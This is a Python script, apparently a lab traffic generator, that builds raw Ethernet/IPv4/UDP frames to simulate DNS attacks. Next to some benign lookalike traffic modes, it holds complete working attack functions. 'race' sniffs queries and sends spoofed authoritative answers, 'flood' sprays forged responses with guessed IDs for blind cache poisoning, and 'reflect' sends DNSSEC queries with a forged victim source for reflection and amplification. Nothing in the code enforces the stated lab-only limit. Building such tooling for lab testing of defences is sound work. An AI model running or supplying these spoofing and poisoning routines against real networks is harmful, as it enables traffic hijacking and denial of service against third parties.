#!/usr/bin/python3
"""attack.py VERB …: what an attacker on the lab's network sends, and what only looks like it.

race DEV FORGED…           answers every query seen on DEV (a copied port) for the names NAME=ADDRESS, as if from
                           the server that was asked
flood DEV SERVER CLIENT MAC NAME COUNT
                           COUNT responses from SERVER to CLIENT with an id and port out of the air
reflect DEV CLIENT SERVER MAC NAME TYPE COUNT
                           COUNT queries to SERVER whose source is CLIENT
alternate ADDRESS          a server whose answers to A alternate, as those of a balancer do
echo ADDRESS, talk ADDRESS BYTES
                           one end of a tunnel sends random bytes over TCP, the other sends them back
resend SERVER NAME COUNT   a client that sends each query twice from one socket before it listens

All of it stays in the namespaces of the lab.
"""
import random
import socket
import struct
import sys
import time

import dns.flags
import dns.message
import dns.rrset

ETHERNET_IPV4 = 0x0800


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def frame(mine, theirs, src, dst, sport, dport, payload):
    """Ethernet, IPv4 and UDP around the payload."""
    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 17, len(udp))
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xffff) + udp[8:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 57, 17, 0, src, dst)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return theirs + mine + struct.pack("!H", ETHERNET_IPV4) + head + udp


def wire_on(dev):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERNET_IPV4))
    s.bind((dev, ETHERNET_IPV4))
    return s, s.getsockname()[4]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def forged(query, address):
    answer = dns.message.make_response(query)
    answer.flags |= dns.flags.AA
    answer.answer = [dns.rrset.from_text(query.question[0].name, 300, "IN", "A", address)]
    return answer.to_wire()


def race(dev, *forgeries):
    table = dict(f.split("=") for f in forgeries)
    s, mine = wire_on(dev)
    while True:
        data = s.recv(65535)
        if data[23] != 17 or data[36:38] != b"\0\x35":
            continue
        query = dns.message.from_wire(data[42:])
        name = query.question[0].name.to_text().lower()
        if name not in table or query.question[0].rdtype != 1:
            continue
        src, dst = socket.inet_ntoa(data[26:30]), socket.inet_ntoa(data[30:34])
        sport = struct.unpack("!H", data[34:36])[0]
        s.send(frame(mine, data[6:12], dst, src, 53, sport, forged(query, table[name])))


def flood(dev, server, client, theirs, name, count):
    s, mine = wire_on(dev)
    query = dns.message.make_query(name, "A", use_edns=0, want_dnssec=True)
    for _ in range(int(count)):
        query.id = random.randrange(65536)
        s.send(frame(mine, mac(theirs), server, client, 53, random.randrange(1024, 65536), forged(query, "203.0.113.66")))
        time.sleep(0.002)


def reflect(dev, client, server, theirs, name, kind, count):
    s, mine = wire_on(dev)
    for _ in range(int(count)):
        query = dns.message.make_query(name, kind, use_edns=0, want_dnssec=True, payload=4096)
        query.flags = 0
        s.send(frame(mine, mac(theirs), client, server, random.randrange(1024, 65536), 53, query.to_wire()))
        time.sleep(0.005)


def alternate(address):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, 53))
    turn = 0
    while True:
        data, peer = s.recvfrom(65535)
        turn += 1
        s.sendto(forged(dns.message.from_wire(data), f"192.0.2.{turn % 200 + 1}"), peer)


def resend(server, name, count):
    for _ in range(int(count)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            query = dns.message.make_query(name, "A", use_edns=0, want_dnssec=True)
            for _ in range(2):
                s.sendto(query.to_wire(), (server, 53))
                time.sleep(0.06)
            for _ in range(2):
                s.recv(65535)


def echo(address):
    with socket.create_server((address, 7)) as s:
        peer, _ = s.accept()
        while data := peer.recv(65535):
            peer.sendall(data)


def talk(address, count):
    data, back = random.randbytes(int(count)), 0
    with socket.create_connection((address, 7), timeout=20) as s:
        s.sendall(data)
        while back < len(data):
            back += len(s.recv(65535))


if __name__ == "__main__":
    verbs = {f.__name__: f for f in (race, flood, reflect, alternate, resend, echo, talk)}
    if len(sys.argv) < 2 or sys.argv[1] not in verbs:
        raise SystemExit(__doc__)
    verbs[sys.argv[1]](*sys.argv[2:])
